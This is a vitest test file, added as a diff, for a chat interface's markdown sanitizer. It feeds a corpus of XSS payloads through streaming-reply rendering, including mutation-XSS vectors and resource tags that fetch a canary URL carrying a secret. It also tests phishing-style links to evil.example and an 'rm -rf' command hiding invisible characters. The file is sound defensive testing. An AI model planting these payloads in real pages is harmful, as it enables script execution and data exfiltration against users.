@@ -1,0 +1,115 @@
+// @vitest-environment jsdom
+/** Hostile replies, whole and half-written: whatever state the page is in, nothing in it may run or be fetched. */
+import { describe, expect, test } from "vitest";
+
+import { GrowingText } from "../src/markdown/blocks.js";
+import { sanitizeMessage } from "../src/markdown/sanitize.js";
+import { misleads } from "../src/ui/links.js";
+import { visible } from "../src/ui/visible.js";
+
+const far = "http://canary.invalid/?q=SECRET";
+const CORPUS: string[] = [
+  "<script>owned=1</script>",
+  '<img src=x onerror="owned=1">',
+  `![x](${far})`,
+  `![x][ref]\n\n[ref]: ${far}`,
+  `[![x](${far})](javascript:owned=1)`,
+  "[x](javascript:owned=1)",
+  "[x](java\tscript:owned=1)",
+  "[x](&#106;avascript:owned=1)",
+  "[x](vbscript:owned=1) [y](data:text/html;base64,PHNjcmlwdD4=)",
+  "[x]: javascript:owned=1\n\n[x]",
+  "<javascript:owned=1>",
+  "<svg onload=owned=1><animate onbegin=owned=1 attributeName=x></svg>",
+  "<math><mi//xlink:href='data:x,<script>owned=1</script>'></math>",
+  `<style>*{background:url(${far})}</style><base href=${far}>`,
+  `<form action=${far}><input name=a><button formaction=javascript:owned=1>x</button></form>`,
+  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe><object data=${far}></object><embed src=${far}>`,
+  `<img srcset="${far} 1x"><video poster=${far} src=${far}></video><link rel=prefetch href=${far}>`,
+  '<noscript><p title="</noscript><img src=x onerror=owned=1>"></noscript>',
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=owned=1>",
+  "<a id=clobber name=attributes data-commandlinker-command=x style=color:red>x</a>",
+  '```js"onmouseover="owned=1\nx\n```',
+  "```html <img src=x onerror=owned=1>\n<script>owned=1</script>\n```",
+  `| a | b |\n|---|---|\n| <img src=x onerror=owned=1> | ![](${far}) |`,
+  "$\\href{javascript:owned=1}{x}$ and $$\\url{javascript:owned=1}$$ $\\unknown<img src=x onerror=owned=1>$",
+  "text[^1]\n\n[^1]: <img src=x onerror=owned=1> [x](javascript:owned=1)",
+  "```mermaid\ngraph TD; A[<img src=x onerror=owned=1>]; click A javascript:owned=1\n```",
+  '<div class="card approval"><button data-approval=1>Allow</button></div>',
+  "\u202e[x](http://a.example)\u202c \u200b<b onclick=owned=1>x</b>",
+  `<a href="${far}" ping="${far}">x</a>`,
+  "</script><script>owned=1</script>",
+  "[".repeat(300),
+  `${"> ".repeat(40)}<img src=x onerror=owned=1>`,
+  `${"word ".repeat(700)}<img src=x onerror=owned=1>${" **bold".repeat(40)}`,
+];
+
+const TAGS = new Set(
+  "a blockquote br code del div em h1 h2 h3 h4 h5 h6 hr img li ol p pre section span strong sup table tbody td th thead tr ul".split(
+    " ",
+  ),
+);
+const ATTRIBUTES = new Set("align alt class href rel src start target title".split(" "));
+
+function problems(html: string): string[] {
+  const holder = document.createElement("template");
+  holder.innerHTML = sanitizeMessage(html);
+  return [...holder.content.querySelectorAll("*")].flatMap((element) => {
+    const tag = element.tagName.toLowerCase();
+    const bad = [...element.attributes].flatMap(({ name, value }) => {
+      if (!ATTRIBUTES.has(name)) return [`${tag} ${name}`];
+      if (name === "href" && !/^(?:https?:|mailto:)/i.test(value)) return [`${tag} ${name}=${value}`];
+      if (name === "src" && !/^data:image\/(?:png|jpeg|gif|webp);base64,/i.test(value)) return [`${tag} src=${value}`];
+      return [];
+    });
+    return TAGS.has(tag) ? bad : [tag, ...bad];
+  });
+}
+
+/** Where a text may be cut: everywhere in a short one, at 200 places in a long one. The places do not change. */
+function cuts(text: string): number[] {
+  if (new TextEncoder().encode(text).length <= 2_048) return Array.from({ length: text.length + 1 }, (_, at) => at);
+  let seed = 20_261_122;
+  return Array.from({ length: 200 }, () => {
+    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
+    return seed % (text.length + 1);
+  }).sort((a, b) => a - b);
+}
+
+describe("a hostile reply", () => {
+  test.each(CORPUS.map((text, number) => [number, text]))("%i is harmless, whole and at every cut", (_, text) => {
+    const growing = new GrowingText();
+    for (const at of [...cuts(text), text.length]) {
+      const { settled, tail } = growing.update(text.slice(0, at), false);
+      for (const block of [...settled, ...(tail ? [tail] : [])]) expect([at, problems(block.html)]).toEqual([at, []]);
+    }
+    for (const block of growing.update(text, true).settled) expect(problems(block.html)).toEqual([]);
+  });
+});
+
+describe("links", () => {
+  const link = (textContent: string, href: string): boolean => misleads({ textContent, href });
+
+  test("that say another place than they lead to are asked about", () => {
+    expect(link("https://bank.example/login", "https://evil.example/")).toBe(true);
+    expect(link("bank.example", "https://bank.example.evil.example/")).toBe(true);
+    expect(link("user@bank.example", "https://evil.example/")).toBe(true);
+  });
+
+  test("that say what they are about are not", () => {
+    expect(link("the documentation", "https://docs.example/")).toBe(false);
+    expect(link("www.bank.example/a", "https://bank.example/a")).toBe(false);
+    expect(link("pandas.py", "https://docs.example/")).toBe(false);
+    expect(link("write to a@b.example", "mailto:a@b.example")).toBe(false);
+  });
+});
+
+test("what is hidden in a command is shown as an escape", () => {
+  const shown = (text: string): string =>
+    visible(text)
+      .map((piece) => piece.text)
+      .join("");
+  expect(shown("rm -rf a\u202eb\u200bc\u00ad")).toBe("rm -rf a\\u{202e}b\\u{200b}c\\u{00ad}");
+  expect(shown("ls \u001b[2K\r한글 é 😀")).toBe("ls \\u{001b}[2K\\u{000d}한글 é 😀");
+  expect(visible("\u{e0041}x").map((piece) => piece.escape)).toEqual([true, false]);
+});
